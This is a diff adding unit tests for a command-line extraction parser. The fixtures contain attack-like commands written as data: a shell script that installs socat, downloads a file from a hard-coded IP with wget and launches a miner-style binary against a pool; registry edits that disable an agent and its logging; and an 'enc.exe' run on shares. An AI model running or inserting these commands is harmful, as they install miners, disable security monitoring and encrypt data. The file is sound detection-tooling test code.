@@ -359,4 +359,40 @@ describe('extractCmdlines', () => {
       '"C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x',
     ]);
   });
+
+  it('reads a block a shebang marks as a shell script whatever its tag, with lines joined by shell operators and programs run by variable', () => {
+    const text = [
+      '```javascript',
+      '#!/bin/sh',
+      'ulimit -n 4096 ; export LANG=C',
+      'apk update;apk add socat',
+      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
+      './$BIN --donate-level 0 -o pool.example.test:443',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'ulimit -n 4096 ; export LANG=C',
+      'apk update;apk add socat',
+      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
+      './$BIN --donate-level 0 -o pool.example.test:443',
+    ]);
+  });
+
+  it('does not join a command to one after it across prose holding a lone "&"', () => {
+    const text =
+      'Script: reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f Turns off the agent. Logging & UI reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f Stops logging of agent events.';
+    expect(values(text)).toEqual([
+      'reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f',
+      'reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f',
+    ]);
+  });
+
+  it('reads a program run from the working directory and a command run with sudo inside a sentence', () => {
+    expect(values('It ran with these parameters: .\\enc.exe -t=4 shares . The flag sets threads.')).toEqual(['.\\enc.exe -t=4 shares']);
+    expect(values('Restart the agent using sudo systemctl restart agentd.service.')).toEqual(['sudo systemctl restart agentd.service']);
+  });
+
+  it('ends a PowerShell command where a page ran the next statement, an assignment, onto it', () => {
+    expect(values('The script: Import-Module -Name "C:\\t\\m.psm1" $key = $cfg.secret')).toEqual(['Import-Module -Name "C:\\t\\m.psm1"']);
+  });
 });
